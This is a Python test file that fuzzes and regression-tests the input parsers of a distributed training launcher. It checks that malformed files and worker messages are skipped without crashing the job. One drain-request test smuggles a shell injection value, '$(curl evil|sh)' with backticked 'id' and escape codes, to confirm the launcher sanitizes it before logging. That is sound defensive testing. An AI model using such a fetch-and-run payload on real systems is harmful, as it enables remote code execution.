"""Issue 40, item 2: no input stops the job.  Every parser of the shared volume and of the workers'
messages takes any bytes and accepts or logs-and-skips; fuzzed with hypothesis, no exception escapes.

The first tests reproduce the findings one by one (each failed on the code before the issue); the
fuzzing ones then throw arbitrary bytes and JSON at the same entry points.
"""
from __future__ import annotations

import json
import os
import signal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dynatrain_runtime.contract import protocol
from dynatrain_runtime.contract import shared_volume as sv
from dynatrain_runtime.contract.checkpoint import CheckpointError, CheckpointStore, NoValidCheckpoint
from dynatrain_runtime.launcher import loop, parse_args
from dynatrain_runtime.launcher import generation, intake
from dynatrain_runtime.launcher.generation import Generation
from dynatrain_runtime.launcher.membership import Membership

M, A, B = "10.0.0.1", "10.0.0.2", "10.0.0.3"
FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda kids: st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=8), kids, max_size=4),
    max_leaves=12)
FIELDS = ("kind", "generation", "step", "epoch", "rank", "path", "ok", "reason", "samples_per_s", "phases",
          "state", "rc", "error", "failed", "seconds", "host", "time", "notice", "ip", "ttl")
KINDS = ("ready", "alive", "exited", "hb", "checkpoint", "stop_ack", "recovery", "done", "peer_lost", "x")
messages = st.dictionaries(st.sampled_from(FIELDS), json_values, max_size=8) | st.fixed_dictionaries(
    {"kind": st.sampled_from(KINDS), "generation": st.just(1) | json_values},
    optional={k: json_values for k in FIELDS if k not in ("kind", "generation")})
file_bytes = st.binary(max_size=200) | json_values.map(lambda v: json.dumps(v).encode()) | st.sampled_from(
    [b"[]", b'{"x": 1}', b'"s"', b"[" * 5000, b'{"generation": -3}', b'{"generation": "x"}',
     b'{"generation": 1e400}', b'{"generation": true}', b"\xff\xfe", b"NaN"])


class FakeWorker:
    def __init__(self, host):
        self.host, self.sent, self.last_hb, self.last_alive = host, [], None, None
        self.stopped = self.done = self.ready = False

    def send(self, msg):
        self.sent.append(msg)
        return True

    def poll(self):
        return None

    def alive(self):
        return True

    def end(self):
        pass

    terminate = end


def launcher(efs, *extra):
    la = loop.Launcher(parse_args(["--efs-mount", str(efs), "--script", "/bin/true", "--transport", "local",
                                   "--master", M, "--no-warm-spares"] + list(extra)))
    la.out = lambda text: None
    la.gen = Generation(1, [A, M], 9000, None)
    la.gen.workers = {A: FakeWorker(A), M: FakeWorker(M)}
    return la


_SHARED = {}


def shared_launcher(tmp_path_factory):
    """One launcher for every example (building one per example is most of the time), a new generation each."""
    if "la" not in _SHARED:
        la = _SHARED["la"] = launcher(tmp_path_factory.mktemp("efs-shared"))
        # the records' fsyncs on every first step would be the whole run time; the parsing is the target
        la.event = lambda name, **fields: json.dumps(fields)            # still: every field is JSON
        la.write_status = lambda force=False: json.dumps(la._snapshot())
        la.members.confirm = lambda membership, reasons=None: []
    la = _SHARED["la"]
    la.gen = Generation(1, [A, M], 9000, None)
    la.gen.workers = {A: FakeWorker(A), M: FakeWorker(M)}
    return la


def write(path, data):
    os.makedirs(os.path.dirname(str(path)), exist_ok=True)
    with open(str(path), "wb") as handle:
        handle.write(data)


# ------------------------------------------------------------------ the findings, one by one
@pytest.mark.parametrize("content", [b"[]", b'{"x": 1}', b"\xff\x00", b'{"generation": "x"}', b"[" * 100000])
def test_any_launcher_state_lets_the_launcher_start(tmp_path, content):
    """``[]`` there made every start exit 3 (only OSError/ValueError were caught): systemd gave up."""
    write(tmp_path / "control" / "launcher_state.json", content)
    write(tmp_path / "host_worker", f"{A}\n{M}\n".encode())
    la = launcher(tmp_path)
    handlers = {sig: signal.getsignal(sig) for sig in (signal.SIGTERM, signal.SIGINT)}
    try:
        assert la._start() is None                      # no exit code: it goes on to train
    finally:
        for sig, handler in handlers.items():
            signal.signal(sig, handler)
    assert la.intake.gen_counter == 0 and la.membership == [A, M]
    write(tmp_path / "control" / "launcher_state.json", b'{"generation": 7}')
    assert intake.saved_generation(str(tmp_path / "control" / "launcher_state.json")) == 7


def test_a_heartbeat_with_a_string_step_is_skipped(tmp_path):
    la = launcher(tmp_path)
    la.handle_msg(la.gen.workers[A], {"kind": "hb", "generation": 1, "step": "x", "rank": "0", "epoch": [1]})
    la.handle_msg(la.gen.workers[A], {"kind": "done", "generation": 1, "step": 1e400})
    la.handle_msg(la.gen.workers[A], {"kind": "stop_ack", "generation": 1, "step": {"a": 1}})
    assert la.gen.max_step == 0 and la.gen.epoch == 0
    la.handle_msg(la.gen.workers[A], {"kind": "hb", "generation": 1, "step": 3, "rank": 0, "epoch": 1})
    assert la.gen.max_step == 3 and la.gen.epoch == 1
    assert la.gen.stalled(1e12, M, 1.0, 1.0)                    # compares steps: types are clean
    assert la.gen.survivors(set())


def test_host_worker_of_any_bytes_keeps_the_last_good_membership(tmp_path):
    la = launcher(tmp_path)
    write(tmp_path / "host_worker", f"{A}\n{M}\n".encode())
    assert la.members.read() == [A, M]
    write(tmp_path / "host_worker", b"\xff\xfe\x00garbage\n")
    assert la.members.read() is None and la.members.last_good == [A, M]
    assert la.members.error


def test_warm_requests_are_capped(tmp_path):
    la = launcher(tmp_path)
    started = []
    la.spares.enabled = True
    la.spares.spawn = lambda host, kind: started.append(host) or FakeWorker(host)
    events = []
    la.event = lambda name, **fields: events.append((name, fields))
    for i in range(40):
        sv.write_warm_request(la.files, f"10.1.0.{i + 1}")
    la.intake.take_warm_requests(la.gen, 0.0)
    assert len(started) == 8                                        # intake.MAX_WARM_REQUESTS
    assert [name for name, _f in events].count("warm_requests_capped") == 1
    la.intake.take_warm_requests(la.gen, 1.0)
    assert len(started) == 8                                        # said once, started once


def test_a_drain_reason_reaches_the_records_cleaned(tmp_path):
    la = launcher(tmp_path)
    events = []
    la.event = lambda name, **fields: events.append((name, fields))
    reason = "$(curl evil|sh)\n\x1b[31m`id`" + "A" * 10000
    sv.write_json(os.path.join(sv.drain_dir(la.files), f"{A}.json"),
                  {"ip": A, "reason": reason, "notice": {"nested": ["x"]}, "time": "yesterday"})
    la.intake.take_drains(la.gen)
    (name, fields), = [e for e in events if e[0] == "drain_requested"]
    assert len(fields["reason"]) <= 200 and fields["reason"].isprintable()
    assert isinstance(fields["notice"], str) and fields["requested_at"] is None


# ------------------------------------------------------------------ fuzzing
@FUZZ
@given(content=file_bytes)
def test_fuzz_launcher_state(tmp_path_factory, content):
    path = tmp_path_factory.mktemp("state") / "launcher_state.json"
    write(path, content)
    value = intake.saved_generation(str(path))
    assert isinstance(value, int) and value >= 0


@FUZZ
@given(msgs=st.lists(messages, max_size=6))
def test_fuzz_handle_msg(tmp_path_factory, msgs):
    la = shared_launcher(tmp_path_factory)
    for i, msg in enumerate(msgs):
        la.handle_msg(la.gen.workers[(A, M)[i % 2]], msg)
    g = la.gen
    assert isinstance(g.max_step, int) and isinstance(g.epoch, int)
    g.stalled(1e12, M, 1.0, 1.0)
    g.survivors(set())
    la._snapshot()
    json.dumps(la._snapshot())


@FUZZ
@given(line=st.text(max_size=60) | messages.map(lambda m: protocol.MSG_PREFIX + json.dumps(m)))
def test_fuzz_message_lines(line):
    msg = protocol.parse_message(line)
    assert msg is None or isinstance(generation.clean_message(msg), dict)


@FUZZ
@given(content=file_bytes)
def test_fuzz_host_worker_and_log(tmp_path_factory, content):
    efs = tmp_path_factory.mktemp("efs")
    files = sv.JobFiles(str(efs))
    write(files.host_worker, content)
    write(files.log, content)

    class Records:
        out = staticmethod(lambda text: None)
        event = staticmethod(lambda name, **fields: None)
    members = Membership(files, Records(), master=M)
    assert members.read() is None or isinstance(members.read(), list)
    assert isinstance(members.logged_members(), list)
    sv.read_log_since(files.log, 0)
    sv.append_log(files.log, "ADDED", A)                  # the log still takes a line


@FUZZ
@given(content=file_bytes, name=st.sampled_from([f"{A}.json", "x.json", "10.0.0.02.json", ".h.json", f"{B}.json"]))
def test_fuzz_requests(tmp_path_factory, content, name):
    la = launcher(tmp_path_factory.mktemp("efs"))
    for directory in (sv.drain_dir(la.files), sv.warm_dir(la.files)):
        write(os.path.join(directory, name), content)
    for read in (sv.read_drain_requests, sv.read_warm_requests):
        for ip, req in read(la.files).items():
            assert sv.validate_ip(ip) == ip and isinstance(req, dict)
    la.intake.take_drains(la.gen)
    la.intake.take_warm_requests(la.gen, 0.0)
    sv.read_stop_request(la.files)


@FUZZ
@given(meta=file_bytes)
def test_fuzz_checkpoint_meta(tmp_path_factory, meta):
    directory = tmp_path_factory.mktemp("ckpt")
    write(directory / "ckpt-0000000005" / "meta.json", meta)
    store = CheckpointStore(str(directory))
    try:
        found = store.resume_point()
    except NoValidCheckpoint:
        return
    assert found is None or isinstance(found[1].get("step"), int)
    with pytest.raises(CheckpointError):                  # no digests in any of these: never verifies
        store.load(str(directory / "ckpt-0000000005"))
